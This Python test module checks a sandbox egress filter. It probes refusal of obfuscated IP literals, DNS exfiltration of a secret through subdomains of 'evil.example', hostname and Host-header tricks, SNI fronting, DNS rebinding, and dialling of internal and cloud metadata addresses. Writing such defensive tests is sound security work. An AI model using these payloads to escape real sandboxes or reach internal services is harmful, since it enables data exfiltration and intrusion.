"""D1–D8: addresses and names."""
import random
import socket
import threading
import time

from table import row
from egress_rig import NAME_SERVER
from sessions import PRODUCTION_NAME, outside
from world import HERE, HERE6, PRODUCTION, SITE, SITE6

RESET = "ECONNRESET|closed"
REFUSED = "REFUSED|FORMERR"
GUARD = "the kernel's second line refuses it"
PORT = 8081  # of this side


def number(address):
    return int.from_bytes(socket.inet_aton(address), "big")


class Here:
    """A server on all addresses of this side; counts."""

    def __init__(self, port):
        self.n = 0
        self.listener = socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True)
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            self.n += 1
            with client:
                client.recv(4096)
                client.sendall(b"HTTP/1.1 200 OK\r\n\r\nreached\n")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()


def each(hosts, port=80):
    return [word for host in hosts for word in (host, port)]


@row("D1", "dial addresses in every spelling; CONNECT to one", "no rule for an address", "kernel (production)")
def literals(t):
    t.world.names["web.example.com"] = [SITE]
    value = number(SITE)
    hosts = ["1.1.1.1", SITE, str(value), hex(value), f"0{value:o}", "0135.0270.012.02", "0x5d.0xb8.0x0a.0x02",
             "93.12060162", "93.184.2562", f"::ffff:{SITE}", f"::ffff:{value >> 16:x}:{value & 0xffff:x}",
             SITE6, "2606:4700:4700::1111", PRODUCTION]
    connect = "CONNECT 1.1.1.1:443 HTTP/1.1\\r\\nHost: 1.1.1.1:443\\r\\n\\r\\n"
    absolute = f"GET http://{PRODUCTION}/ HTTP/1.1\\r\\nHost: web.example.com\\r\\n\\r\\n"
    with Here(PORT) as here, t.world.counted() as seen:
        made = t.session("web.example.com")
        t.refused(made.attack("dial", *each(hosts), *each([HERE, HERE6], PORT)), RESET)
        t.refused(made.attack("http", "web.example.com", 80, connect, absolute), "400|403|405|421|501|" + RESET)
    t.check(here.n == 0, f"this host's own address was reached {here.n} times")
    t.check(not seen.requests, f"requests arrived: {seen.requests}")
    t.nothing_came(seen, (SITE, 80))
    with Here(PORT) as here, t.world.counted() as seen:
        t.succeeds(outside("dial", *each(hosts), *each([HERE, HERE6], PORT)))
        t.succeeds(outside("http", "web.example.com", 80, connect, absolute))
    t.something_came(seen)
    with t.world.counted() as seen:
        yes = t.session("web.example.com", yes="yes")
        t.holds(yes.attack("dial", PRODUCTION, 80, f"::ffff:{PRODUCTION}", 443), RESET)
        t.recorded(yes, GUARD)
        t.worked(yes.attack("dial", "1.1.1.1", 80) == {"1.1.1.1 80": "ok"}, "that worker does not say yes")
    t.nothing_came(seen, ("1.1.1.1", 80), what="a check that says yes")


@row("D2", "carry data out in questions", "the stub forwards nothing")
def exfiltration(t):
    secret = "s" * 50
    names = [f"{secret}{n}.evil.example" for n in range(4)]
    with t.world.counted() as seen:
        made = t.session("web.example.com", "*.wild.example.com")
        for server in ("8.8.8.8", NAME_SERVER):
            t.refused(made.attack("dns", server, "udp", *names), "EACCES")
            t.refused(made.attack("dns", server, "tcp", *names), RESET)
        t.refused(made.attack("dns", "127.0.0.53", "udp", *names), "REFUSED")
        t.refused(made.attack("dns", "127.0.0.53", "tcp", *names), "REFUSED")
        long = t.session("*.wild.example.com")
        t.refused({"60 bytes": long.attack("labels", "wild.example.com", 60, 20)["60 bytes"]}, "0")
        t.recorded(long, "too long or too random below a wildcard")
        short = made.attack("labels", "wild.example.com", 12, 200)
        # 32 at once, and one more in six seconds.
        most = 33 + int(short["seconds"]) // 6
        t.check(int(short["12 bytes"]) <= most, f"{short} new names below a wildcard at once")
    t.check(not seen.asked, f"the host's name server was asked: {seen.asked[:5]}")
    t.nothing_came(seen)
    if t.controls:
        with t.world.counted() as seen:
            t.succeeds(outside("dns", NAME_SERVER, "udp", *names), "NXDOMAIN")
            t.succeeds(outside("dns", "8.8.8.8", "tcp", *names), "ok")
        t.worked(len([name for name in seen.asked if name.startswith(secret)]) == 4, f"{seen.asked}")


@row("D3", "names that two readers read differently", "one canonical form")
def tricks(t):
    t.world.names["web.example.com"] = [SITE]
    names = ["web.example.com\\x00.evil.example", "web.example.com\\x2eevil.example", "\\x00web.example.com",
             "web.example.com.evil.example", "evilweb.example.com", "web .example.com", "web_.example.com",
             "-web.example.com", "xn--.example.com", "web.example.com%00", "web@evil.example", "web:80.example.com",
             "*.example.com", "evil\\x2eexample", "a" * 63 + ".example.com", ".".join(["a" * 60] * 4) + ".web.example.com"]
    broken = ["a" * 64 + ".example.com", "\\xc0\\x0c", "b" * 200]
    # A dot within a label is one of our notation: these are the bytes as a client would send them.
    with t.world.counted() as seen:
        made = t.session("web.example.com")
        t.refused(made.attack("dns", "127.0.0.53", "udp", *names), REFUSED)
        t.refused(made.attack("dns", "127.0.0.53", "unheard", *broken), REFUSED + "|timeout")
        t.refused(made.attack("dns", "127.0.0.53", "udp", "web.example.com/16", "web.example.com/255"),
                  "nodata|REFUSED")
        good = made.attack("dns", "127.0.0.53", "udp", "web.example.com", "WEB.Example.COM")
        t.check(set(good.values()) == {"address"}, f"one canonical form: {good}")
        hosts = ["web.example.com\\x00.evil.example", "web.example.com.", "web.example.com.evil.example",
                 "evil.example#web.example.com", "web.example.com@evil.example", "web.example.com:80:80",
                 "web.example.com, evil.example", "web.example.com\\x0bevil", "[::ffff:1.1.1.1]"]
        heads = [f"GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n" for host in hosts if not host.endswith(".")]
        t.refused(made.attack("http", "web.example.com", 80, *heads), "400|403|421|" + RESET)
    t.check(set(seen.asked) <= {"web.example.com"}, f"asked outside: {seen.asked}")
    t.check(not seen.requests, f"requests arrived: {seen.requests}")
    t.nothing_came(seen, (SITE, 80))
    if t.controls:
        with t.world.counted() as seen:
            t.succeeds(outside("dns", NAME_SERVER, "udp", *names), "NXDOMAIN")
            t.succeeds(outside("http", "web.example.com", 80, *heads))
        t.worked(len(seen.asked) >= len(names) and len(seen.requests) == len(heads), "what it takes as it comes")


@row("D4", "another name inside TLS or HTTP than the dialled one", "SNI and Host are compared")
def fronting(t):
    t.world.names["web.example.com"] = [SITE]
    good, bad = "web.example.com", "evil.example"
    ask = "GET / HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n"
    bad_heads = [ask.format(bad), "~" + ask.format(bad), f"GET / HTTP/1.1\\r\\nHost: {good}\\r\\nHost: {bad}\\r\\n\\r\\n",
                 f"GET http://{bad}/ HTTP/1.1\\r\\nHost: {good}\\r\\n\\r\\n"]
    second = f"{ask.format(good)}|{ask.format(bad)}"
    with t.world.counted() as seen:
        made = t.session(good)
        t.check(set(made.attack("tls", good, good, "", f"{good}/1").values()) == {"ok"}, "the right name")
        t.refused(made.attack("tls", good, bad, f"{bad}/1", f"{bad}/7", f"{good}.{bad}", f"x.{good}"), RESET)
        t.refused(made.attack("http", good, 80, *bad_heads), "400|403|421|" + RESET)
        got = made.attack("http", good, 80, second)["request 1"]
        t.refused({"second request": got.removeprefix("ok ")}, "400|403|421|" + RESET)
    t.check(set(seen.server_names) <= {good, None}, f"names in TLS: {seen.server_names}")
    t.check(not any(bad.encode() in head for head in seen.requests), f"requests: {seen.requests}")
    t.nothing_came(seen, (SITE, 80), (SITE, 443))
    if t.controls:
        with t.world.counted() as seen:
            t.succeeds(outside("tls", good, bad, f"{bad}/1", f"x.{good}"))
            t.succeeds(outside("http", good, 80, *bad_heads))
            t.succeeds(outside("http", good, 80, second), "ok ok")
        t.worked(seen.server_names.count(bad) == 2, f"{seen.server_names}")


@row("D5", "go around the rules: other ports, none at all, wrong ones", "nothing else to connect to")
def around(t):
    t.world.names["web.example.com"] = [SITE]
    other = each(["web.example.com"], 8080) + each(["web.example.com"], 22) + each(["web.example.com"], 853)
    with t.world.counted() as seen:
        t.refused(t.session("web.example.com").attack("dial", *other), RESET)
        t.refused(t.session().attack("dial", "web.example.com", 80, SITE, 80), RESET + "|no address")
        caller = t.daemon.client("alice", workspace="blue")
        for rule in ("web.example.com:", "*", "0.0.0.0/0", "::/0", "*.com", "web.example.com:0", "http://web.example.com",
                     "web.example.com\0", "", "WEB..com"):
            refused = caller.post("/dagster/sandbox/sessions", {"egress": {"allow": ["web.example.com", rule]}})
            t.refused({f"rule {rule!r}": str(refused.status)}, "422")
    t.nothing_came(seen)
    told = caller.get(f"/dagster/sandbox/sessions/{t.sessions[-1].id}/egress").json
    t.check(told["rules"] == [] or all(rule["label"] != "allow" for rule in told["rules"]), f"in force: {told}")
    if t.controls:
        with t.world.counted() as seen:
            t.succeeds(outside("dial", *other))
        t.something_came(seen)


@row("D6", "answer another address the second time", "one resolution, checked, dialled", "kernel")
def rebinding(t):
    inward = ["127.0.0.1", "10.9.0.2", "169.254.169.254", HERE]
    for n, address in enumerate(inward):
        t.world.names[f"twice{n}.example.com"] = lambda address=address: [random.choice((SITE, address))]
    names = [f"twice{n}.example.com" for n in range(len(inward))]
    want = {"*": "ok|" + RESET}
    with Here(80) as here:
        with t.world.counted() as seen:
            made = t.session(*names)
            for _ in range(4):
                t.refused(made.attack("dial", *each(names)), want)
                time.sleep(1.1)  # the answers live for a second
        t.check(here.n == 0, f"this host was reached {here.n} times")
        t.nothing_came(seen, (SITE, 80))
        t.check((SITE, 80) in seen.accepted, "the public answer was never dialled")
        if t.controls:
            for _ in range(30):
                t.succeeds(outside("dial", *each(names)))
                if here.n >= 2:
                    break
            t.worked(here.n >= 2, "this host was not reached")
        with t.world.counted() as seen:
            before, yes = here.n, t.session(*names, yes="yes")
            # Of each answer it is a chance where it leads.
            for _ in range(12):
                t.holds(yes.attack("dial", *each(names[:3])), want)
                if any(row["rule"] == GUARD for row in yes.denials()):
                    break
                time.sleep(1.1)
            t.recorded(yes, GUARD)
        t.check(here.n == before, "a check that says yes: loopback was reached")
        t.nothing_came(seen, (SITE, 80), what="a check that says yes")


INWARD = ["127.0.0.1", "127.9.9.9", "0.0.0.0", "10.0.0.1", "10.9.0.2", "172.16.3.3", "192.168.7.7", "100.64.0.9",
          "169.254.169.254", "169.254.7.7", "100.100.100.200", "168.63.129.16", "192.0.0.8", "192.0.2.1", "198.18.0.1",
          "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "::1", "::", "fd00:ec2::254", "fd12::1",
          "fe80::1", "ff02::1", "::ffff:10.0.0.1", "::ffff:127.0.0.1", "::7f00:1", "64:ff9b::a00:1", "2002:a00:1::1",
          "2001::1", "2001:db8::1"]


@row("D7", "an allowed name that leads inward, in every range", "refused after resolution", "kernel")
def inward_names(t):
    names = {f"in{n}.example.com": address for n, address in enumerate(INWARD)}
    own = {"own4.example.com": HERE, "own6.example.com": HERE6}
    t.world.names.update({name: [address] for name, address in {**names, **own}.items()})
    t.world.names[PRODUCTION_NAME] = t.world.names["alias.example.com"] = [PRODUCTION]
    production = ["alias.example.com", PRODUCTION_NAME]
    with Here(80) as here:
        with t.world.counted() as seen:
            made = t.session(*names, *own, "alias.example.com")
            t.refused(made.attack("dial", *each([*names, *own, *production])), RESET)
        t.check(here.n == 0, f"this host was reached {here.n} times")
        t.nothing_came(seen)
        if t.controls:
            with t.world.counted() as seen:
                got = outside("dial", *each([*names, *own, *production]))
            # Which of them this kernel connects to at all.
            reached = {step: result for step, result in got.items() if result == "ok"}
            t.succeeds(reached)
            t.no_control(f"{len(got) - len(reached)} ranges that no program can dial: "
                         + " ".join(names[step.split()[0]] for step in got if step not in reached))
            t.check(len(reached) >= 22, f"too few can be dialled: {got}")
            t.something_came(seen)
        with t.world.counted() as seen:
            before, yes = here.n, t.session("web.example.com", yes="yes")
            t.holds(yes.attack("dial", *each([*names, *production])), RESET)
            t.recorded(yes, GUARD)
        t.check(here.n == before, "a check that says yes: loopback was reached")
        t.nothing_came(seen, what="a check that says yes")


@row("D8", "IPv6 addresses, servers and questions", "every address leads to the worker")
def ipv6(t):
    t.world.names["six.example.com"] = [SITE6]
    hosts = [SITE6, "2606:4700:4700::1111", "2001:4860:4860::8888", "2600::1"]
    with t.world.counted() as seen:
        made = t.session("web.example.com")
        t.refused(made.attack("dial", *each(hosts), *each(hosts, 443)), RESET)
        t.refused(made.attack("dns", "2001:4860:4860::8888", "udp", "x.example"), "EACCES")
        t.refused(made.attack("dns", "2001:4860:4860::8888", "tcp", "x.example"), RESET)
        t.refused(made.attack("dns", "127.0.0.53", "udp", "web.example.com/28"), "nodata")
        t.refused(made.attack("dns", "127.0.0.53", "udp", "six.example.com/28"), "REFUSED")
    t.nothing_came(seen)
    if t.controls:
        with t.world.counted() as seen:
            t.succeeds(outside("dial", *each(hosts), *each(hosts, 443)))
            t.succeeds(outside("dns", NAME_SERVER, "udp", "six.example.com/28"), "address")
        t.something_came(seen)
